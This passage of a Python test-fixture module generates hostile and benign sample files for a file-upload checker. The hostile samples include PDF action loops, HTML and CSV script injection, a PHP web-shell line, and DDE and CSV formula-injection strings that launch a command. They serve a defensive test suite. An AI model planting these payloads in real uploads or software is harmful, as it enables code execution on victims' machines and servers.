    yield "page that lies elsewhere", "contrat.pdf", pdf(lambda d: _drawn(d, F=Dictionary(FS=Name.URL, F=web))), "pdf_elsewhere"
    yield "drawing that stands for a page of a share", "contrat.pdf", pdf(lambda d: _drawn(d, Ref=Dictionary(F=share, Page=0))), "pdf_elsewhere"


def _drawn(document: pikepdf.Pdf, **entries: object) -> None:
    drawing = Stream(document, b"", Type=Name.XObject, Subtype=Name.Form, BBox=[0, 0, 1, 1], **entries)
    document.pages[0].Resources = Dictionary(XObject=Dictionary(X=document.make_indirect(drawing)))


def _button(document: pikepdf.Pdf, action: Dictionary) -> None:
    entries = {"Type": Name.Annot, "Subtype": Name.Widget, "FT": Name.Btn, "T": String("b"), "Rect": [0, 0, 9, 9], "A": action}
    button = document.make_indirect(Dictionary(**entries))
    document.pages[0].Annots = Array([button])
    document.Root.AcroForm = Dictionary(Fields=Array([button]))


def _endless(document: pikepdf.Pdf) -> None:
    action = document.make_indirect(Dictionary(S=Name.GoTo))
    action.Next = action
    document.Root.OpenAction = action


def _bad_texts() -> Iterator[Bad]:
    yield "web page called txt", "notes.txt", b"<html><body onload=alert(1)></body></html>", "markup"
    yield "script in a csv", "liste.csv", b"nom;lien\nA;<script>alert(1)</script>\n", "markup"
    yield "PHP called txt", "notes.txt", b"<?php system($_GET['c']); ?>", "markup"
    yield "page archive called txt", "notes.txt", b"MIME-Version: 1.0\nContent-Type: multipart/related\n", "markup"
    yield "Latin-1 csv", "liste.csv", "nom;ville\nÉlise;Orléans\n".encode("latin-1"), "charset"
    yield "UTF-16 csv", "liste.csv", "nom;ville\nÉlise;Orléans\n".encode("utf-16"), "charset"
    yield "formula csv", "liste.csv", b'nom;lien\nA;"=HYPERLINK(""https://x.example.org"";""ici"")"\n', "formula"
    yield "DDE csv", "liste.csv", b"nom;x\nA;=cmd|'/C calc'!A0\n", "formula"
    yield "plus formula csv", "liste.csv", b"nom,x\nA,+SUM(A1:A9)\n", "formula"
    yield "minus formula csv", "liste.csv", b"nom\tx\nA\t-2+3+cmd|'/C calc'!A0\n", "formula"
    yield "at formula csv", "liste.csv", b"nom;x\nA;@SUM(1)\n", "formula"
    yield "tabulated formula csv", "liste.csv", b'nom;x\nA;"\t=1+1"\n', "formula"
    yield "cell of 200 kB", "liste.csv", b"nom;x\nA;" + b"a" * 200_000 + b"\n", "table"
    yield "control characters", "notes.txt", b"bonjour \x1b[2J\x07", "damaged"
    yield "direction override in a text", "notes.txt", "virement de 10 \u202e0001 €".encode(), "damaged"
    yield "unknown extension", "notes.md", b"# Bonjour\n", "extension"


@cache
def good() -> list[Good]:
    return [*_good_pictures(), *_good_documents(), *_good_pdfs(), *_good_texts()]


def _good_pictures() -> Iterator[Good]:
    wide = io.BytesIO()
    noise((600, 400)).convert("CMYK").save(wide, "JPEG")
    yield "phone photo, turned, with its place", "IMG_2041.JPG", photo()
    yield "phone photo with two views", "IMG_2042.jpg", two_views()
    yield "JPEG called PNG by a messaging app", "photo.png", photo()
    yield "CMYK photo of a printer", "affiche.jpeg", wide.getvalue()
    yield "grey scan", "scan.jpg", picture("JPEG", (900, 1200), "L")
    yield "progressive photo", "photo.jpg", picture("JPEG", progressive=True)
    yield "PNG with transparency", "logo.png", picture("PNG", mode="RGBA")
    yield "PNG with a palette", "logo.png", picture("PNG", mode="P")
    yield "black and white PNG", "scan.png", picture("PNG", (500, 700), "1")
    yield "16-bit PNG", "scan.png", _deep_png()
    yield "still GIF", "logo.gif", picture("GIF", mode="P")
    yield "WebP", "photo.webp", picture("WEBP")
    yield "large photo", "panorama.jpg", picture("JPEG", (6000, 4000))
    yield "photo with bytes of the phone behind it", "photo.jpg", photo() + b"SEFT" + b"\x01" * 400


# fmt: on
def _deep_png() -> bytes:
    out = io.BytesIO()
    Image.linear_gradient("L").convert("I").point(lambda value: value * 257).convert("I;16").save(out, "PNG")
    return out.getvalue()


# fmt: off
def _good_documents() -> Iterator[Good]:
    link = external("hyperlink", "https://www.example.org/")
    yield "docx", "Programme.docx", ooxml("docx")
    yield "docx with links", "Programme.docx", ooxml("docx", rels=link)
    yield "docx from a template on the author's disk", "Courrier.docx", ooxml("docx", rels=external("attachedTemplate", "file:///C:/Modeles/a.dotx"))
    yield "docx with photo and chart", "Bilan.docx", ooxml("docx", {"word/media/image1.jpeg": photo(), "word/embeddings/Feuille.xlsx": ooxml("xlsx")})
    yield "xlsx with printer settings", "Budget.xlsx", ooxml("xlsx", {"xl/printerSettings/printerSettings1.bin": b"\0" * 400})
    yield "xlsx of 2 MB of cells", "Budget.xlsx", ooxml("xlsx", {"xl/worksheets/sheet1.xml": _cells()})
    yield "pptx with SVG icon", "Diapos.pptx", ooxml("pptx", {"ppt/media/image1.svg": b"<svg/>"})
    yield "odt", "Compte rendu.odt", odf(more={"Configurations2/accelerator/current.xml": b""})
    yield "ods", "Budget.ods", odf("spreadsheet")
    yield "odp", "Diapos.odp", odf("presentation")
    yield "docx with fields", "Programme.docx", written("".join(map(field, _HONEST_FIELDS)) + field("IF ", field(" MERGEFIELD Ville "), ' = "Lyon"'))
    yield "docx about DDEAUTO", "Securite.docx", written("<w:r><w:t>DDEAUTO c:\\\\cmd.exe, WEBSERVICE(1), cmd|'/c'!A0</w:t></w:r>")
    yield "xlsx with formulas", "Budget.xlsx", computed(*_HONEST_FORMULAS)
    note = b'<xml><shape href="https://www.example.org/"><div>a<br>b</div></shape></xml>'
    yield "xlsx with notes", "Budget.xlsx", ooxml("xlsx", {"xl/drawings/vmlDrawing1.vml": note})
    jump = b'<p><hlinkClick action="ppaction://hlinksldjump"/></p>'
    yield "pptx with links", "Diapos.pptx", ooxml("pptx", {"ppt/slides/slide1.xml": jump})
    yield "odt with a picture and links", "Compte rendu.odt", opened(_HONEST_CONTENT)
    yield "odt from a template on the author's disk", "Courrier.odt", odf(more={"meta.xml": f'<a {XLINK}><template xlink:href="/C:/M/a.ott"/></a>'.encode()})
    arrays = '<table:table-cell table:formula="of:=SUM({1;2|3;4})*[.A1]+[$\'Feuil 2\'.A1]"/>'
    yield "ods with formulas", "Budget.ods", opened(arrays, "spreadsheet")
    shape = '<presentation:event-listener presentation:action="show" xlink:href="https://www.example.org/"/>'
    yield "odp with a link behind a shape", "Diapos.odp", opened(shape, "presentation")
    yield "name without extension", "Programme", ooxml("docx")


_HONEST_FIELDS = (
    " PAGE ", r' TOC \o "1-3" \h \z \u ', ' HYPERLINK "https://www.example.org/" ', r' DATE \@ "dd/MM/yyyy" ', " MERGEFIELD Nom ",
    r' INCLUDEPICTURE "/var/folders/a/image.png" \* MERGEFORMATINET ', r' LINK Excel.Sheet.12 "C:\\Users\\A\\a b.xlsx" "Feuil1!L1C1:L3C4" \a \f 0',
)
_HONEST_FORMULAS = (
    "SUM(A1:A9)", "'Feuil 2'!A1", "'Janvier:Mars'!B2", 'IF(A1="a|b!","n° 1 | n° 2","")', "'Recettes|Dépenses'!A1+'L''année'!A1",
    "Table1[Nom|Prénom]&amp;Feuil2!A1", "{1,2;3,4}", 'HYPERLINK("https://www.example.org/","site")', r"'C:\Users\A\[a.xlsx]Feuil1'!A1", "[1]Feuil1!A1",
)
_HONEST_CONTENT = (
    '<office:scripts/><text:a xlink:href="https://www.example.org/">site</text:a><text:a xlink:href="mailto:a@example.org">écrire</text:a>'
    f'<draw:a xlink:href="https://www.example.org/"><draw:image xlink:href="Pictures/1.png" {LOADED}/></draw:a>'
    '<draw:object xlink:href="./Object 1"/><text:section-source xlink:href="../Annexes/a%20b.odt"/>'
)


# fmt: on
def _cells() -> bytes:
    row = '<row r="{}"><c r="A{}"><v>{}</v></c><c r="B{}" t="s"><v>{}</v></c></row>'
    rows = "".join(row.format(n, n, n * 7919 % 10007, n, n * 31 % 997) for n in range(30_000))
    return f'<?xml version="1.0" encoding="UTF-8"?><worksheet>{rows}</worksheet>'.encode()


def _good_pdfs() -> Iterator[Good]:
    def form(document: pikepdf.Pdf) -> None:
        document.Root.AcroForm = Dictionary(Fields=Array())

    def scan(document: pikepdf.Pdf) -> None:
        stream = Stream(document, photo(), Type=Name.XObject, Subtype=Name.Image, Filter=Name.DCTDecode, Width=320, Height=240)
        stream.ColorSpace, stream.BitsPerComponent = Name.DeviceRGB, 8
        document.pages[0].Resources = Dictionary(XObject=Dictionary(I=document.make_indirect(stream)))

    yield "PDF", "attestation.pdf", pdf()
    yield "PDF of 400 pages", "rapport.pdf", pdf(pages=400)
    yield "scan in a PDF", "scan.pdf", pdf(scan)
    yield "PDF with compressed objects", "rapport.pdf", pdf(pages=20, object_stream_mode=pikepdf.ObjectStreamMode.generate)
    yield "linearised PDF", "rapport.pdf", pdf(pages=3, linearize=True)
    yield "PDF that opens on its first page", "rapport.pdf", on_open(Dictionary(S=Name.GoTo, D=Array([0, Name.Fit])))
    yield "PDF with a link", "rapport.pdf", annotated(Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("https://www.example.org/")))
    yield "PDF that opens at a place", "rapport.pdf", pdf(lambda d: setattr(d.Root, "OpenAction", Array([d.pages[0].obj, Name.Fit])))
    annexe = Dictionary(S=Name.GoToR, F=String("annexe.pdf"), D=Array([0, Name.Fit]))
    yield "PDF with a link to the paper beside it", "rapport.pdf", annotated(Subtype=Name.Link, A=annexe)
    inside = Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=Dictionary(S=Name.Named, N=Name.NextPage))
    yield "PDF whose page turns by itself", "rapport.pdf", annotated(Subtype=Name.Link, AA=Dictionary(PO=inside))
    yield "PDF with a plain form", "cerfa.pdf", pdf(form)
    yield "PDF that may not be changed, open to read", "kbis.pdf", pdf(encryption=pikepdf.Encryption(owner="a", user=""))
    yield "capital extension", "ATTESTATION.PDF", pdf()


def _good_texts() -> Iterator[Good]:
    yield "csv", "liste.csv", "nom;ville;solde\nÉlise;Orléans;-12,50\n".encode()
    yield "csv of a spreadsheet, with a mark", "liste.csv", b"\xef\xbb\xbfnom;t\xc3\xa9l\nA;+33 1 99 00 11 22\nB;@pseudo\nC;-\n"
    yield "csv with quotes and line breaks", "liste.csv", b'nom,mot\nA,"deux\nlignes, et une virgule"\n'
    yield "text", "notes.txt", "Réunion du 12 : 3 < 4, d’accord ?\n".encode()
    yield "text about JavaScript", "notes.txt", b"Formation JavaScript: bases\n"


if __name__ == "__main__":
    folder = Path(sys.argv[1])
    folder.mkdir(parents=True, exist_ok=True)
    for number, (label, name, data, *_) in enumerate([*bad(), *good()]):
        safe = "".join(c if c.isalnum() or c in ".-" else "-" for c in f"{number:03}-{label}-{name}")
        (folder / safe).write_bytes(data)
